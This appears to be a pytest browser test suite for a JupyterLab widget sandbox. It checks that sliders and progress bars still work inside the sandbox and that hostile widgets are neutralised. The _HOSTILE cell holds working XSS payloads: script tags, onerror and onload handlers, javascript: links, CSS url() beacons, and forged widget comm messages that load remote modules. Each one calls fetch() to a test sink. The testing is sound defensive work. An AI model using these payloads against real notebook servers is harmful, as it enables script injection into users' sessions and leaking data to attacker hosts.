"""Widgets of a sandbox in a real JupyterLab: seen, moved with mouse and keys, found again; hostile ones do nothing."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
import pytest
from pages import LISTEN, TOKEN, jupyterlab

_OFFLINE = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
_IDLE = """() => { const kernel = window.jupyterapp?.shell.currentWidget?.sessionContext?.session?.kernel;
                   return kernel?.connectionStatus === "connected" && kernel?.status === "idle"; }"""
_SLIDER = """%%sandbox
import ipywidgets as w
from IPython.display import display
from tqdm.notebook import tqdm
slider, label = w.IntSlider(20, max=40, description="height"), w.Label("still")
def moved(change):
    label.value = f"now {change.new}"
    open("results/moved", "w").write(str(change.new))
slider.observe(moved, "value")
display(w.VBox([slider, label]))
for _ in tqdm(range(4), desc="reading"):
    pass
"""
# The notebook's own kernel is busy until the sandbox has heard of it.
_BUSY = """import pathlib, time
print("busy")
end = time.monotonic() + 60
while not pathlib.Path("results/moved").exists() and time.monotonic() < end:
    time.sleep(0.05)
print("over" if time.monotonic() < end else "in vain")
"""
_HOSTILE = """%%sandbox
import ipywidgets as w
from IPython.display import display
SINK = "{sink}"
run = "top.ran = 1; fetch('" + SINK + "ran')"
for markup in (
    "<script>" + run + "</script>",
    "<img src='" + SINK + "image' onerror=\\"" + run + "\\">",
    "<svg onload=\\"" + run + "\\"></svg><iframe srcdoc='<script>" + run + "</script>'></iframe>",
    "<style>body {{ background: url(" + SINK + "style) }} #jp-main-content-panel {{ display: none }}</style>",
    "<a id=link href='javascript:" + run + "'>x</a>",
    "<div data-commandlinker-command='notebook:create-new' id=linker>x</div>",
    "$\\\\href{{javascript:" + run + "}}{{x}}$",
):
    texts = [w.HTML(markup, description=markup, description_allow_html=True), w.HTMLMath(markup), w.Label(markup)]
    inputs = [w.Button(description=markup, tooltip=markup), w.Dropdown(options=[markup], description=markup)]
    inputs += [w.Checkbox(description=markup, description_allow_html=True), w.Tab([w.Label(markup)], titles=[markup])]
    display(w.VBox(texts + inputs))
url = "url(" + SINK + "layout)"
layout = w.Layout(width="100px", grid_area=url, margin=url, padding=url, border=url)
display(w.Button(description="styled", layout=layout, style={{"button_color": "red"}}))
over = w.Layout(position="fixed", top="0", left="0", width="100vw", height="100px", margin="-900px")
display(w.Label("over", layout=over))
kernel = get_ipython().kernel
def forge(name, module, **state):
    state |= {{"_model_name": name, "_model_module": module, "_view_name": "View", "_view_module": module}}
    state |= {{"_model_module_version": "1.0.0", "_view_module_version": "1.0.0"}}
    content = {{"comm_id": name, "target_name": "jupyter.widget", "data": {{"state": state}}}}
    kernel.session.send(kernel.iopub_socket, "comm_open", content, kernel.get_parent("shell"))
    display({{"application/vnd.jupyter.widget-view+json": {{"model_id": name, "version_major": 2, "version_minor": 0}},
             "text/plain": "fallback"}}, raw=True)
forge("AnyModel", "anywidget", _esm="export default {{render() {{ " + run + " }}}}")
forge("EvilModel", SINK + "evil.js")
forge("OutputModel", "@jupyter-widgets/output", outputs=[
    {{"output_type": "display_data", "data": {{"text/html": "<script>" + run + "</script>"}}, "metadata": {{}}}}])
print("all" + " shown")
"""

_SEEN = """() => ({
  ran: window.ran ?? null, heard, url: location.href.split("?")[0],
  frames: document.querySelectorAll(".jp-OutputArea iframe").length,
  scripts: document.querySelectorAll(".jp-OutputArea script").length,
  lifted: [...document.querySelectorAll(".jp-OutputArea .jupyter-widgets")]
    .filter((one) => ["fixed", "absolute"].includes(getComputedStyle(one).position)).length,
  tabs: [...window.jupyterapp.shell.widgets("main")].length,
})"""

Run = Callable[..., Any]


def write(folder: Path, *cells: str) -> None:
    folder.mkdir()
    (folder / "pyproject.toml").write_text("[project]\nname = 'study'\n")
    book = nbformat.v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}})
    book.cells = [nbformat.v4.new_code_cell(text) for text in ("%load_ext ipysandbox", *cells)]
    nbformat.write(book, folder / "widgets.ipynb")


def open_and_run(page: Any, address: str) -> None:
    page.add_init_script(LISTEN)
    page.goto(f"{address}/lab/tree/widgets.ipynb?token={TOKEN}&reset")
    page.wait_for_function(_IDLE, timeout=60_000)
    page.evaluate("() => { window.jupyterapp.commands.execute('notebook:run-all-cells'); }")  # not until they end


def reads(page: Any, text: str) -> None:
    """Wait until an output says so."""
    page.wait_for_function(
        "text => [...document.querySelectorAll('.jp-OutputArea-output')].some((one) => one.textContent.includes(text))",
        arg=text,
        timeout=60_000,
    )


@pytest.mark.timeout(240)  # two page loads of JupyterLab, on a busy machine some ten seconds each
def test_a_slider_and_a_bar_are_shown_and_moved_while_the_notebook_is_busy(in_browser: Run, tmp_path: Path) -> None:
    folder, state = tmp_path / "study", tmp_path / "state"
    write(folder, _SLIDER, _BUSY)

    def work(page: Any) -> dict[str, Any]:
        open_and_run(page, address)
        reads(page, "busy")
        handle = page.locator(".widget-slider .noUi-handle").first
        handle.wait_for(timeout=60_000)
        bar = page.locator(".widget-hprogress .progress-bar").first
        bar.wait_for(state="attached", timeout=30_000)
        found = {"bar": bar.evaluate("one => one.style.width"), "text": page.locator(".widget-html").last.inner_text()}
        handle.focus()
        page.keyboard.press("ArrowRight")
        reads(page, "over")
        reads(page, "now 21")
        place = handle.bounding_box()
        page.mouse.move(place["x"] + place["width"] / 2, place["y"] + place["height"] / 2)
        page.mouse.down()
        page.mouse.move(place["x"] + 600, place["y"], steps=8)
        page.mouse.up()
        reads(page, "now 40")
        # The page is loaded again, and asks for what there is.
        page.evaluate("window.jupyterapp.commands.execute('docmanager:save')")
        page.wait_for_function("!window.jupyterapp.shell.currentWidget.context.model.dirty", timeout=30_000)
        page.reload()
        page.wait_for_function(_IDLE, timeout=60_000)
        page.locator(".widget-slider .noUi-handle").first.wait_for(timeout=60_000)
        reads(page, "now 40")
        found["again"] = page.locator(".widget-readout").first.inner_text()
        return found

    with jupyterlab(folder, state, "widgets = true") as address:
        found = in_browser(work, _OFFLINE)
    assert found["bar"] == "100%"
    assert "4/4" in found["text"]
    assert found["again"] == "40"
    assert (folder / "results" / "moved").read_text() == "40"


def attacked(in_browser: Run, folder: Path, state: Path, code: str) -> dict[str, Any]:
    """What is left of a page after a cell of hostile widgets."""
    write(folder, code)

    def work(page: Any) -> dict[str, Any]:
        open_and_run(page, address)
        reads(page, "all shown")
        page.locator(".widget-button", has_text="styled").wait_for(state="attached", timeout=60_000)
        for element in ("a", "div", "button"):
            for one in page.locator(f".jp-OutputArea-output {element}", has_text="x").all()[:20]:
                if one.is_visible():
                    one.click(timeout=5000, force=True, no_wait_after=True)
        page.wait_for_timeout(1500)  # nothing tells that a request will never be made
        return dict(page.evaluate(_SEEN))

    with jupyterlab(folder, state, "widgets = true") as address:
        return {**in_browser(work, _OFFLINE), "address": address}


def test_hostile_widgets_do_nothing_in_the_page(in_browser: Run, sink: Any, tmp_path: Path) -> None:
    seen = attacked(in_browser, tmp_path / "study", tmp_path / "state", _HOSTILE.format(sink=sink.address))
    assert sink.seen == []
    assert (seen["ran"], seen["heard"], seen["frames"], seen["scripts"], seen["lifted"]) == (None, [], 0, 0, 0)
    assert (seen["url"], seen["tabs"]) == (f"{seen['address']}/lab/tree/widgets.ipynb", 1)


def test_without_the_sandbox_they_do(in_browser: Run, sink: Any, tmp_path: Path) -> None:
    code = _HOSTILE.format(sink=sink.address).removeprefix("%%sandbox\n")
    seen = attacked(in_browser, tmp_path / "study", tmp_path / "state", code)
    assert seen["ran"] == 1
    assert {line.split()[1] for line in sink.seen} >= {"/ran", "/image"}
